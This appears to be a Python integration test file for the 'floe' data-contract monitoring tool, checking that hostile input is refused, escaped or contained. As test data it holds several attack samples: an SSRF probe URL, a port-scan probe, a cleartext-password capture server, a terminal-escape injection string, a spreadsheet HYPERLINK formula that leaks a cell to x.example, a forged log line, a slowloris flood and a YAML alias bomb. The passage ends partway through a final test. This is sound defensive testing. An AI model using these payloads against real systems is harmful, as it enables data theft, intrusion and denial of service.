"""Hostile or unlucky input never stops a deployable, never silences another asset (issue 20).

One test per finding, each against the public interfaces: the record is published to the real broker, the
deployable is the one ``floe run <kind>`` builds (``runtime.deployables.app.build``), and the test observes what an operator
would: the deployable still running, the record dead-lettered (or refused) with its reason, and the other assets
still monitored. Findings that depend on a broker's limits run on Apache Kafka.

Shared helpers first; each section below is one slice of the issue (input records: bounds at decode, bounded
findings and state, time and sequence; contracts and probes; outputs and the health port; supervision of
background tasks).
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import logging
import os
import re
import socket
import sys
import threading
import zlib
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import orjson
import pytest
from aiokafka import AIOKafkaProducer
from aiokafka.structs import ConsumerRecord
from click.testing import CliRunner
from prometheus_client.parser import text_string_to_metric_families
from pydantic import SecretStr

from floe_stream.cli.main import main as cli
from floe_stream.printable import printable
from floe_stream.reporting import store
from floe_stream.runtime.deployables.app import Runnable, build
from floe_stream.runtime.deployables.checks_runtime import retire_contracts
from floe_stream.runtime.devtools.embedded import Broker, EmbeddedKafka
from floe_stream.runtime.framework.contracts_feed import ContractsFeed
from floe_stream.runtime.framework.health import MAX_CONNECTIONS, REQUEST_DEADLINE_S, HealthServer
from floe_stream.runtime.framework.kafka import ensure_topics
from floe_stream.runtime.framework.supervision import TASK_UP_METRIC
from floe_stream.settings import AlertsSettings, Settings
from floe_stream.telemetry.metrics import setup_metrics
from floe_stream.topics import CatalogCommitEvent, IcebergField, IcebergSchema, Tick
from floe_stream.topics.bounds import IDENTIFIER_MAX, IDENTIFIER_PATTERN, RULES, TEXT_MAX
from floe_stream.topics.catalog import TopicKey, topic_name
from floe_stream.topics.check_result import CheckResult
from floe_stream.topics.enums import CheckStatus, CheckType, Severity
from floe_stream.topics.materialization import MaterializationEvent
from floe_stream.topics.violation import ViolationData, encode_violation
from tests.conftest import REPO, make_settings, wait_for
from tests.integration.checks_support import CleartextPostgres, HttpTarget, Tarpit, TcpTarget
from tests.integration.helpers import floe_env, publish, read_all, start_floe, stop_process
from tests.integration.receivers import HttpReceiver, SmtpReceiver, publish_violations
from tests.integration.test_sla_accuracy import AS_OF
from tests.unit.alert_factory import violation

pytestmark = [pytest.mark.kafka, pytest.mark.postgres]

CONTRACTS = (
    REPO / "tests" / "fixtures" / "contracts"
)  # test.fast (SLA 2 s, columns id/amount/updated_at), test.slow


async def hostile_settings(
    broker: Broker, pg_dsn: str, contracts: Path = CONTRACTS, **update: Any
) -> Settings:
    """Settings for one test on ``broker``: its own topics (created), a fresh database, ``contracts``."""
    s = make_settings(broker, pg_dsn).model_copy(update={"contracts_dir": contracts, **update})
    await ensure_topics(s.kafka)
    return s


@dataclass
class Deployed:
    """A deployable built as ``floe run <kind>`` builds it, running as a task."""

    kind: str
    service: Any
    task: asyncio.Task[None]

    @property
    def running(self) -> bool:
        """Still running (a deployable that met an exception it did not contain has returned or raised)."""
        return not self.task.done()

    def failure(self) -> BaseException | None:
        return self.task.exception() if self.task.done() and not self.task.cancelled() else None


@contextlib.asynccontextmanager
async def deployed(kind: str, settings: Settings) -> AsyncIterator[Deployed]:
    """Run ``build(kind, settings)`` until the block ends; it is assigned its partitions before the block runs.
    A deployable that stopped on its own is reported by the test's own assertions, not hidden here."""
    service: Runnable = build(kind, settings)
    task = asyncio.create_task(service.run(), name=kind)
    d = Deployed(kind, service, task)
    try:
        await wait_for(lambda: getattr(service, "ever_assigned", True) or task.done(), timeout=60)
        yield d
    finally:
        service.request_stop()
        with contextlib.suppress(Exception):
            await asyncio.wait_for(asyncio.shield(task), 30)
        if not task.done():
            task.cancel()
            with contextlib.suppress(BaseException):
                await task


@dataclass(frozen=True)
class DeadLetter:
    reason: str
    topic: str
    value: bytes


async def dead_letters(settings: Settings) -> list[DeadLetter]:
    """Every record of the ``dlq`` topic, with its reason and origin topic."""
    out = []
    for rec in await read_all(settings, TopicKey.DLQ):
        h = dict(rec.headers)
        out.append(
            DeadLetter(h["floe-dlq-reason"].decode(), h.get("floe-dlq-topic", b"").decode(), rec.value or b"")
        )
    return out


async def records_of(
    settings: Settings, key: TopicKey, where: Callable[[dict[str, Any]], bool]
) -> list[dict[str, Any]]:
    """The JSON values of a topic's records that satisfy ``where`` (check results, violations …)."""
    out = []
    for rec in await read_all(settings, key):
        if rec.value:
            obj = orjson.loads(rec.value)
            if where(obj):
                out.append(obj)
    return out


def largest(recs: list[ConsumerRecord[bytes, bytes]]) -> int:
    return max((len(r.value or b"") for r in recs), default=0)


# --- contracts: a contract cannot stop floe or take what another contract owns ---------------------------------


def hostile_contract(cid: str, table: str, asset: str) -> str:
    """One table with a 1 h freshness SLA, its asset id set by the floe customProperty."""
    return f"""apiVersion: v3.1.0
kind: DataContract
id: {cid}
name: {cid}
version: 1.0.0
status: active
schema:
  - name: {table}
    customProperties:
      - property: floe
        value:
          asset: {asset}
slaProperties:
  - property: latency
    value: 1
    unit: h
"""


async def publish_contract(settings: Settings, cid: str, text: str | None) -> None:
    """One record on the contracts topic (one publication: ownership goes by publication order); None
    retires the contract (a tombstone, as `floe contracts retire` writes it)."""
    if text is None:
        await retire_contracts(settings, [cid])
    else:
        await publish(settings, TopicKey.CONTRACTS, [(cid, text.encode())])


async def materialize(settings: Settings, asset: str, event_id: str) -> None:
    ev = MaterializationEvent(event_id=event_id, asset=asset, materialized_at=datetime.now(UTC), row_count=1)
    await publish(settings, TopicKey.MATERIALIZATIONS, [(asset, ev)])


async def evaluated_for(settings: Settings, asset: str, event_id: str) -> set[str]:
    """The contracts that the check results of one materialization of ``asset`` were evaluated for."""
    found = await records_of(
        settings, TopicKey.CHECK_RESULTS, lambda r: r["asset"] == asset and r["source_event_id"] == event_id
    )
    return {r["contract_id"] for r in found}


@pytest.fixture
def contracts_dir(tmp_path: Path) -> Path:
    (tmp_path / "contracts").mkdir()
    return tmp_path / "contracts"


async def test_poison_contract_record_never_stops_the_processor_or_the_postgres_sink(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path
) -> None:
    s = await hostile_settings(kafka, pg_dsn, contracts_dir)
    # `floe: {consumers: null}` at the contract level: the loader raised a TypeError nobody caught
    poison = hostile_contract("poison", "p", "hostile.poison")
    poison += "customProperties:\n  - property: floe\n    value: {consumers: null}\n"
    await publish_contract(s, "poison", poison)
    await publish_contract(s, "first", hostile_contract("first", "f", "hostile.first"))
    async with deployed("processor", s) as processor, deployed("sink-postgres", s) as sink:
        assert processor.running and sink.running, processor.failure() or sink.failure()
        # live: a second bad record, then a good one — the contracts tail goes on
        await publish_contract(s, "poison2", poison.replace("id: poison", "id: poison2"))
        await publish_contract(s, "later", hostile_contract("later", "l", "hostile.later"))
        await wait_for(lambda: processor.service.registry.get("hostile.later"), timeout=30)
        await materialize(s, "hostile.later", "m-later")
        assert await wait_for(lambda: evaluated_for(s, "hostile.later", "m-later"), timeout=30) == {"later"}
        # a newer valid version of the bad record's contract replaces it
        await publish_contract(s, "poison", hostile_contract("poison", "p", "hostile.poison"))
        await wait_for(lambda: processor.service.registry.get("hostile.poison"), timeout=30)
        await materialize(s, "hostile.poison", "m-poison")
        assert await wait_for(lambda: evaluated_for(s, "hostile.poison", "m-poison"), timeout=30) == {
            "poison"
        }
        await materialize(s, "hostile.first", "m-first")
        assert await wait_for(lambda: evaluated_for(s, "hostile.first", "m-first"), timeout=30) == {"first"}
        assert processor.running and sink.running


async def test_contract_claiming_another_contracts_asset_on_the_topic_is_refused_and_retiring_it_changes_nothing(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    s = await hostile_settings(kafka, pg_dsn, contracts_dir)
    await publish_contract(s, "sales", hostile_contract("sales", "orders", "hostile.orders"))
    await publish_contract(s, "intruder", hostile_contract("intruder", "x", "hostile.orders"))
    with caplog.at_level(logging.ERROR):
        async with deployed("processor", s) as processor:
            await materialize(s, "hostile.orders", "m1")
            assert await wait_for(lambda: evaluated_for(s, "hostile.orders", "m1"), timeout=30) == {"sales"}
            # an intruder while running (the id in other letters), then the first intruder is retired
            await publish_contract(s, "intruder2", hostile_contract("intruder2", "y", "HOSTILE.ORDERS"))
            await wait_for(lambda: "contract 'intruder2' refused" in caplog.text, timeout=30)
            await publish_contract(s, "intruder", None)
            await wait_for(lambda: "intruder" not in processor.service.checks.live.from_topic or
                           processor.service.checks.live.from_topic["intruder"] is None, timeout=30)  # fmt: skip
            await materialize(s, "hostile.orders", "m2")
            assert await wait_for(lambda: evaluated_for(s, "hostile.orders", "m2"), timeout=30) == {"sales"}
            assert processor.running
    assert (
        "contract 'intruder' refused: asset id 'hostile.orders' is owned by contract 'sales'" in caplog.text
    )


async def test_contract_file_claiming_another_files_asset_is_refused_at_start_and_live(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (contracts_dir / "a-sales.yaml").write_text(hostile_contract("sales", "orders", "hostile.orders"))
    (contracts_dir / "b-intruder.yaml").write_text(hostile_contract("intruder", "x", "hostile.orders"))
    s = await hostile_settings(kafka, pg_dsn, contracts_dir)
    s = s.model_copy(update={"checks": s.checks.model_copy(update={"contracts_poll_s": 0.2})})
    with caplog.at_level(logging.ERROR):
        async with deployed("processor", s) as processor:
            (contracts_dir / "c-late.yaml").write_text(hostile_contract("late", "y", "hostile.orders"))
            await wait_for(lambda: "contract 'late' refused" in caplog.text, timeout=30)
            await materialize(s, "hostile.orders", "m1")
            assert await wait_for(lambda: evaluated_for(s, "hostile.orders", "m1"), timeout=30) == {"sales"}
            assert processor.running
    assert (
        "contract 'intruder' refused: asset id 'hostile.orders' is owned by contract 'sales'" in caplog.text
    )


# --- probes: a contract cannot make floe connect where the operator did not allow, nor log in anywhere --------


def availability_contract_yaml(cid: str, assets: list[str], probe: str, *, checks: str = "") -> str:
    """One table per asset id, availability 50 %, the contract-level ``floe.probe`` given (flow YAML)."""
    tables = "".join(
        f"  - name: t{i}\n    customProperties:\n      - property: floe\n        value: {{asset: {a}}}\n"
        for i, a in enumerate(assets)
    )
    return f"""apiVersion: v3.1.0
kind: DataContract
id: {cid}
name: {cid}
version: 1.0.0
status: active
customProperties:
  - property: floe
    value:
      checks: {{ping_interval_s: 0.3{", " + checks if checks else ""}}}
      probe: {probe}
schema:
{tables}slaProperties:
  - property: availability
    value: "50%"
"""


async def probe_results(settings: Settings, asset: str) -> list[dict[str, Any]]:
    return await records_of(settings, TopicKey.PROBE_RESULTS, lambda r: r["asset"] == asset)


async def test_probes_reach_only_what_the_operator_allows_no_ssrf_no_port_scan(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    admin = await HttpTarget(status=200).start()  # an internal admin endpoint on loopback
    scanned = TcpTarget()
    await scanned.start()
    allowed = await HttpTarget(status=200).start("127.0.0.2")  # what the operator lists: 127.0.0.2 only
    url = f"http://127.0.0.1:{admin.port}/internal/admin/delete?all=1"
    (contracts_dir / "ssrf.yaml").write_text(
        availability_contract_yaml("ssrf", ["h.ssrf"], f"{{type: http, url: '{url}'}}")
    )
    (contracts_dir / "scan.yaml").write_text(
        availability_contract_yaml(
            "scan", ["h.scan"], f"{{type: tcp, host: localhost, port: {scanned.port}}}"
        )
    )
    (contracts_dir / "ok.yaml").write_text(
        availability_contract_yaml("ok", ["h.ok"], f"{{type: http, url: 'http://127.0.0.2:{allowed.port}/'}}")
    )
    s = await hostile_settings(kafka, pg_dsn, contracts_dir)
    s = s.model_copy(update={"checks": s.checks.model_copy(update={"probe_allow": ["127.0.0.2/32"]})})
    try:
        with caplog.at_level(logging.WARNING):
            async with deployed("processor", s) as processor, deployed("ticker", s):
                ok = await wait_for(lambda: probe_results(s, "h.ok"), timeout=30)
                assert ok[0]["ok"], ok
                await wait_for(
                    lambda: len(caplog.records) and "h.scan" in caplog.text and "h.ssrf" in caplog.text
                )
                n_ok = len(await probe_results(s, "h.ok"))
                await wait_for(lambda: at_least(s, "h.ok", n_ok + 3), timeout=30)
                assert processor.running
        assert admin.requests == 0 and scanned.accepted == 0  # never connected
        assert await probe_results(s, "h.ssrf") == [] and await probe_results(s, "h.scan") == []
        assert (
            "asset h.ssrf: availability not evaluated: probe target not allowed: 127.0.0.1 is a loopback"
            in caplog.text
        )
        assert (
            "asset h.scan: availability not evaluated: probe target not allowed: localhost (127.0.0.1)"
            in caplog.text
        )
    finally:
        await admin.stop()
        await scanned.stop()
        await allowed.stop()
    # lint and explain say so before anything runs, with the same allow-list
    env = {"FLOE_CHECKS__PROBE_ALLOW": '["127.0.0.2/32"]'}
    lint = CliRunner().invoke(cli, ["contracts", "lint", str(contracts_dir)], env=env)
    assert (
        "h.ssrf: availability not evaluated: probe target not allowed: 127.0.0.1 is a loopback" in lint.output
    )
    explain = CliRunner().invoke(cli, ["contracts", "explain", str(contracts_dir)], env=env)
    assert explain.output.count("measured: not evaluated: probe target not allowed") == 2, explain.output


async def at_least(settings: Settings, asset: str, n: int) -> list[dict[str, Any]] | None:
    """The probe results of ``asset`` once there are ``n`` of them."""
    found = await probe_results(settings, asset)
    return found if len(found) >= n else None


PASSWORD = "platform-probe-secret-5f2c"


async def test_no_probe_sends_the_platform_password_to_a_host_a_contract_names(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path
) -> None:
    """floe dev's settings (probes may reach loopback) with FLOE_CHECKS__PROBE_PASSWORD set: a contract's
    postgres server that asks for a cleartext password gets none, and is judged up from that very request."""
    async with CleartextPostgres() as listener:
        server = f"servers:\n  - server: db\n    type: postgres\n    host: 127.0.0.1\n    port: {listener.port}\n    database: x\n"
        text = availability_contract_yaml("thief", ["h.thief"], "{server: db}").replace(
            "schema:\n", server + "schema:\n", 1
        )
        (contracts_dir / "thief.yaml").write_text(text)
        s = await hostile_settings(kafka, pg_dsn, contracts_dir)
        checks = s.checks.model_copy(
            update={
                "probe_allow": ["127.0.0.0/8"],
                "probe_user": "floe",
                "probe_password": SecretStr(PASSWORD),
            }
        )
        s = s.model_copy(update={"checks": checks})
        async with deployed("processor", s) as processor, deployed("ticker", s):
            results = await wait_for(lambda: at_least(s, "h.thief", 3), timeout=30)
            assert processor.running
        assert listener.startups >= 3
        assert listener.passwords == [] and PASSWORD.encode() not in listener.received
        assert all(r["ok"] for r in results), results  # an authentication request: the server is up


async def test_one_contracts_tarpit_never_holds_every_ping_slot_and_timeouts_are_capped(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path
) -> None:
    tarpit = await Tarpit().start()
    healthy = await HttpTarget(status=200).start()
    tables = [f"h.pit{i}" for i in range(12)]
    (contracts_dir / "pit.yaml").write_text(
        availability_contract_yaml(
            "pit",
            tables,
            f"{{type: http, url: 'http://127.0.0.1:{tarpit.port}/'}}",
            checks="ping_timeout_s: 1e9",
        )
    )
    (contracts_dir / "ok.yaml").write_text(
        availability_contract_yaml("ok", ["h.ok"], f"{{type: http, url: 'http://127.0.0.1:{healthy.port}/'}}")
    )
    s = await hostile_settings(kafka, pg_dsn, contracts_dir)
    checks = s.checks.model_copy(
        update={"probe_allow": ["127.0.0.0/8"], "ping_concurrency": 8, "ping_timeout_max_s": 1.0}
    )
    s = s.model_copy(update={"checks": checks})
    try:
        async with deployed("processor", s) as processor, deployed("ticker", s):
            # the healthy contract keeps being pinged while every tarpit ping hangs
            await wait_for(lambda: at_least(s, "h.ok", 5), timeout=40)
            assert all(r["ok"] for r in await probe_results(s, "h.ok"))
            # a contract's 1e9 s timeout is capped: its pings fail with "timeout" after ping_timeout_max_s
            timed_out = await wait_for(lambda: probe_results(s, "h.pit0"), timeout=40)
            assert timed_out[0]["reason"] == "timeout" and timed_out[0]["duration_ms"] < 5_000
            assert tarpit.peak <= 8 // 4 * 2  # one contract: a quarter of each lane at most
            assert processor.running
    finally:
        await tarpit.stop()
        await healthy.stop()


# --- outputs: nothing a producer or contract author writes acts on who reads floe's output -----------------------
# Text of input (asset ids, owners, contract names, JSON keys) reaches a terminal, a spreadsheet or a log with its
# control characters escaped and no formula; no webhook secret or URL password reaches the log; the health port
# (open to the network, no authentication) bounds what slow clients hold.

FLOE = str(Path(sys.executable).parent / "floe")
# what an attacker puts in an asset id: set the window title, clear the screen, a CR that repaints the line,
# an OSC 8 hyperlink, a bidi override
EVIL = "evil\x1b]0;pwned\x07\x1b[2J\rok.orders\x1b]8;;http://x.example/\x07click\x1b]8;;\x07\u202e"
FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"details")'
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


async def _history(dsn: str) -> None:
    """Results of two hostile asset ids, written as the PostgreSQL sink writes them. ``model_construct``: the
    rows are what the database holds (from an older version, another writer); the renderers must not trust
    them whatever the decoder of the day lets through."""
    rows = []
    for asset in (EVIL, FORMULA):
        for i in range(6):
            rows.append(
                CheckResult.model_construct(
                    result_id=f"{asset}/{i}",
                    asset=asset,
                    contract_id="-2+3",
                    contract_version="1.0.0",
                    check_type=CheckType.FRESHNESS,
                    status=CheckStatus.FAIL if i % 2 else CheckStatus.PASS,
                    severity=None,
                    evaluated_at=AS_OF - timedelta(hours=6 - i),
                    trigger="event",
                    metric=0.5,
                    message="m",
                )
            )
    conn = await asyncpg.connect(dsn)
    try:
        async with conn.transaction():
            await store.write_history(conn, rows, [])
    finally:
        await conn.close()


async def _floe_cli(dsn: str, *args: str) -> tuple[int, str, str]:
    env = {**os.environ, "FLOE_DATABASE__DSN": dsn, "COLUMNS": "200"}
    proc = await asyncio.create_subprocess_exec(
        FLOE, *args, env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
    )
    out, err = await asyncio.wait_for(proc.communicate(), 60)
    assert proc.returncode is not None
    return proc.returncode, out.decode(), err.decode()


async def test_sla_report_shows_escaped_control_characters_and_csv_cells_start_no_formula(
    pg_dsn: str,
) -> None:
    await _history(pg_dsn)
    common = ("sla", "report", "--window", "1d", "--as-of", AS_OF.isoformat())

    rc, out, err = await _floe_cli(pg_dsn, *common, "--fail-under", "99")  # the table and the gate's lines
    assert rc == 3, err
    assert not CONTROL.search(out + err), (out + err)[:2000]
    assert "evil\\x1b]0;pwned\\x07" in out and "\\u202e" in out  # shown, escaped, not acted on
    assert "evil\\x1b]0;pwned" in err  # the gate's list of failing pairs too

    for fmt in ("github", "junit"):  # a CI log is a terminal; XML 1.0 cannot even hold these characters
        rc, out, err = await _floe_cli(pg_dsn, *common, "--format", fmt)
        assert rc == 0, err
        assert not CONTROL.search(out), (fmt, out[:2000])

    rc, out, err = await _floe_cli(pg_dsn, *common, "--format", "csv")
    assert rc == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert not CONTROL.search(out)  # a bare CR would split a row for many readers
    assert {r["asset"] for r in rows} == {"'" + FORMULA, printable(EVIL)}  # the formula kept as text
    assert {r["contract_id"] for r in rows} == {"'-2+3"}

    rc, out, err = await _floe_cli(pg_dsn, *common, "--format", "json")  # JSON: exact, JSON-escaped
    assert rc == 0, err
    assert {a["asset"] for a in json.loads(out)["assets"]} == {EVIL, FORMULA}


def test_contracts_lint_and_explain_escape_contract_text(tmp_path: Path) -> None:
    (tmp_path / "c.odcs.yaml").write_text(
        'apiVersion: v3.1.0\nkind: DataContract\nid: evil\nname: "n\\e]0;pwned\\a"\nversion: 1.0.0\n'
        'status: active\nteam: {name: "t\\r\\e[1A", members: [{username: "o\\e[8m", role: owner}]}\n'
        'schema:\n  - name: t\n    customProperties: [{property: floe, value: {asset: "a\\e[2J.b", '
        'consumers: ["c\\e]8;;http://x.example/\\ay"]}}]\n'
        '    properties: [{name: "c\\e[31m", logicalType: integer}]\n'
        'slaProperties: [{property: latency, value: 1, unit: h, element: "t.c\\e[31m"}, {property: "b\\e]0;s\\a", value: 1}]\n'
    )
    runner = CliRunner()
    for args in (["contracts", "lint", str(tmp_path)], ["contracts", "explain", str(tmp_path)]):
        res = runner.invoke(cli, args, color=True)  # as on a terminal: click strips nothing
        assert not CONTROL.search(res.output), (args, res.output)
    # such a contract does not load at all (contract text follows the input rules: topics/bounds.py); lint
    # names every field without quoting it
    res = runner.invoke(cli, ["contracts", "lint", str(tmp_path)], color=True)
    assert res.exit_code == 1, res.output
    for field in ("name", "team.name", "team.members[0].username", "schema[0].customProperties[0].value.asset",
                  "schema[0].customProperties[0].value.consumers[0]", "schema[0].properties[0].name",
                  "slaProperties[0].element", "slaProperties[1].property"):  # fmt: skip
        assert (
            f"c.odcs.yaml: {field}: must be text without control, bidi or zero-width characters" in res.output
        )


async def test_alerts_sink_log_has_no_webhook_secret_and_no_forged_line(
    settings: Settings, tmp_path: Path
) -> None:
    async with HttpReceiver() as slack:
        # the Slack webhook URL is the secret; a URL may also carry a password (userinfo)
        url = f"http://floe:hunter2@127.0.0.1:{slack.port}/services/T0SECRET/B0SECRET/XyZsecretTOKEN"
        cfg = tmp_path / "floe.yaml"
        cfg.write_text(
            "alerts:\n  policy: {group_wait_s: 0}\n"
            "  channels: [{name: slack, type: slack, url_env: FLOE_TEST_SLACK_URL}]\n"
            "  routes: [{channels: [slack]}]\n"
        )
        env = floe_env(settings, FLOE_CONFIG_FILE=str(cfg), FLOE_TEST_SLACK_URL=url, FLOE_LOG_LEVEL="INFO")
        env.pop("FLOE_ALERTS__CONFIG_FILE", None)
        assert env["FLOE_LOG_FORMAT"] == "text"
        log = tmp_path / "sink.log"
        proc = await start_floe(["run", "sink", "alerts"], env, log)
        try:
            await publish_violations(settings, [violation("orders.v1")])
            await wait_for(lambda: slack.requests, timeout=60, interval=0.2)

            # a violation whose data has a key with a newline and a line of its own making: dead-lettered
            forged = "2026-01-01 00:00:00,000 ERROR floe_stream.sinks.alerts.sink: FORGED"
            key, value, headers = encode_violation(violation("orders.v2"))
            doc = json.loads(value)
            doc["data"] = {f"x\n{forged}": 1, **doc["data"]}
            producer = AIOKafkaProducer(bootstrap_servers=settings.kafka.bootstrap_servers, linger_ms=0)
            await producer.start()
            try:
                topic = topic_name(settings.kafka.topic_prefix, TopicKey.VIOLATIONS)
                await producer.send_and_wait(topic, json.dumps(doc).encode(), key=key, headers=headers)
            finally:
                await producer.stop()
            await wait_for(lambda: "dead-lettered" in log.read_text(), timeout=60, interval=0.2)
        finally:
            assert await stop_process(proc) == 0, log.read_text()[-3000:]
    text = log.read_text()
    for secret in ("hunter2", "T0SECRET", "B0SECRET", "XyZsecretTOKEN"):
        assert secret not in text, text[-3000:]
    assert not [ln for ln in text.splitlines() if ln.startswith(forged)], text[-3000:]
    assert "\\n" + forged in text  # the dead-letter line shows the key, escaped, on its own record's line


async def _ok() -> dict[str, bool]:
    return {"ok": True}


def _get(port: int, path: str) -> int:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        head = s.recv(200)
    return int(head.split()[1])


def _closed(s: socket.socket) -> bool:
    """The server ended this connection (FIN or RST)."""
    try:
        return s.recv(1, socket.MSG_DONTWAIT) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


@pytest.mark.slow  # waits out the 5 s request deadline
async def test_slowloris_connections_are_capped_and_dropped_by_the_whole_request_deadline() -> None:
    server = HealthServer("127.0.0.1", 0, liveness=_ok, readiness=_ok)
    await server.start()
    socks: list[socket.socket] = []
    stop = threading.Event()

    def dribble() -> None:  # one header line per second and connection: never a complete request
        while not stop.wait(1.0):
            for s in socks:
                with contextlib.suppress(OSError):
                    s.send(b"X-Slow: 1\r\n")

    def flood(n: int) -> None:
        for _ in range(n):
            s = socket.create_connection(("127.0.0.1", server.port), timeout=5)
            s.sendall(b"GET /healthz HTTP/1.1\r\n")
            s.setblocking(False)  # the dribbler never waits on one of them
            socks.append(s)

    dribbler = threading.Thread(target=dribble, daemon=True)
    try:
        await asyncio.to_thread(flood, 500)
        dribbler.start()
        # the probe gets its answer during the flood (it evicts the oldest slow client, not the reverse)
        assert await asyncio.to_thread(_get, server.port, "/healthz") == 200

        async def capped() -> bool:
            return sum(not _closed(s) for s in socks) <= MAX_CONNECTIONS

        await wait_for(capped, timeout=10)

        async def all_dropped() -> bool:
            return all(_closed(s) for s in socks)

        # every slow client is gone once the whole-request deadline passed, dribbling or not
        await wait_for(all_dropped, timeout=3 * REQUEST_DEADLINE_S + 10)
        assert await asyncio.to_thread(_get, server.port, "/healthz") == 200
    finally:
        stop.set()
        if dribbler.is_alive():
            await asyncio.to_thread(dribbler.join, 5)
        for s in socks:
            s.close()
        await server.stop()


# --- supervision: no background task of a deployable dies unnoticed ------------------------------------------------


async def test_a_dead_background_task_fails_healthz_is_logged_once_and_counted(
    kafka: EmbeddedKafka, pg_dsn: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """The processor's contracts tail meeting an exception outside its per-record containment: /healthz 503
    naming it (the orchestrator restarts the pod), one log line with the traceback, floe_background_task_up 0."""
    setup_metrics("floe-test")
    caplog.set_level(logging.ERROR, logger="floe_stream.runtime.framework.supervision")
    real = ContractsFeed._apply_in_order

    def apply_in_order(self: ContractsFeed, batch: Any) -> None:
        # stands for any bug the tail meets outside the per-record containment (issue 20: a poison contract
        # record raised a TypeError there, and the tail died silently while /healthz said 200)
        if any(r.key == b"poison" for recs in batch.values() for r in recs):
            raise TypeError("'NoneType' object is not iterable")
        real(self, batch)

    monkeypatch.setattr(ContractsFeed, "_apply_in_order", apply_in_order)
    s = await hostile_settings(kafka, pg_dsn, health_port=0, health_host="127.0.0.1")
    async with deployed("processor", s) as processor:
        health = processor.service.health
        assert health is not None
        ok = await _http(health.port, "/healthz")
        assert ok.status_code == 200 and ok.json()["checks"]["background_tasks"] is True

        await publish(s, TopicKey.CONTRACTS, [("poison", b"kind: DataContract\n")])

        async def dead() -> bool:
            return (await _http(health.port, "/healthz")).status_code == 503

        await wait_for(dead, timeout=20)
        body = (await _http(health.port, "/healthz")).json()
        assert body["checks"]["background_tasks"] is False
        assert body["checks"]["consuming"] is True  # the consume loop itself still turns
        assert "TypeError" in body["details"]["dead_tasks"]["contracts-tail"]
        assert processor.running  # alive for its other work until the orchestrator restarts it

        up = {}
        for fam in text_string_to_metric_families((await _http(health.port, "/metrics")).text):
            for sample in fam.samples:
                if sample.name == TASK_UP_METRIC:
                    up[sample.labels["task"]] = sample.value
        assert up["contracts-tail"] == 0.0
        assert up["probe-publisher"] == 1.0  # the others are still up

        died = [r for r in caplog.records if "background task contracts-tail died" in r.getMessage()]
        assert len(died) == 1 and died[0].exc_info is not None  # once, with its traceback


async def _http(port: int, path: str) -> httpx.Response:
    async with httpx.AsyncClient() as c:
        return await c.get(f"http://127.0.0.1:{port}{path}", timeout=5)


def alias_bomb(cid: str) -> str:
    """~1 KB of YAML whose nested aliases expand to 9**9 strings (the classic "billion laughs")."""
    lines = ['      a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"      a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 9)]
    anchors = "\n".join(lines)
    return (
        hostile_contract(cid, "b", f"hostile.{cid}")
        + "customProperties:\n  - property: floe\n    value:\n"
        + anchors
        + "\n      consumers: *a8\n"
    )


async def test_alias_bomb_contract_is_refused_at_once_in_lint_the_directory_and_the_topic(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (contracts_dir / "bomb.yaml").write_text(alias_bomb("bomb"))
    (contracts_dir / "good.yaml").write_text(hostile_contract("good", "g", "hostile.good"))
    lint = CliRunner().invoke(cli, ["contracts", "lint", str(contracts_dir)])
    assert lint.exit_code == 1
    assert "bomb.yaml: document too large: more than 1,000,000 nodes with its aliases expanded" in lint.output
    s = await hostile_settings(kafka, pg_dsn, contracts_dir)
    await publish_contract(s, "bomb2", alias_bomb("bomb2"))
    with caplog.at_level(logging.ERROR):
        async with deployed("processor", s) as processor:
            await materialize(s, "hostile.good", "m1")
            assert await wait_for(lambda: evaluated_for(s, "hostile.good", "m1"), timeout=30) == {"good"}
            assert processor.running
    assert "contract not loaded: " in caplog.text and "bomb.yaml: document too large" in caplog.text
    assert "contracts-topic:bomb2: document too large" in caplog.text


# --- input records: one record never stops the processor, never silences another asset ----------------------


def _mat(asset: str, event_id: str, **fields: Any) -> bytes:
    """A materialization event as a producer writes it (JSON), with ``fields`` as they are, unvalidated."""
    ev: dict[str, Any] = {"asset": asset, "event_id": event_id, "materialized_at": _now(), **fields}
    return orjson.dumps(ev)


def _now() -> str:
    return datetime.now(UTC).isoformat()


async def _publish(settings: Settings, key: TopicKey, *items: tuple[str, bytes]) -> None:
    await publish(settings, key, list(items))


async def _results_for(settings: Settings, asset: str) -> list[dict[str, Any]]:
    return await records_of(settings, TopicKey.CHECK_RESULTS, lambda r: r.get("asset") == asset)


async def test_30000_extra_columns_make_bounded_outputs_and_the_processor_goes_on(
    apache_kafka: Broker, pg_dsn: str
) -> None:
    """Amplification: 0.86 MB listing 30,000 extra columns used to become 30,011 violations, a 1.95 MiB check
    result and a 15.2 MiB state record; on Apache Kafka the processor exited (MessageSizeTooLargeError) and
    every restart re-read the event."""
    s = await hostile_settings(apache_kafka, pg_dsn)
    columns = [{"name": "id", "type": "long"}, {"name": "amount", "type": "double"},
               {"name": "updated_at", "type": "timestamptz"}]  # fmt: skip
    columns += [{"name": f"c{i:05d}", "type": "int"} for i in range(30_000)]
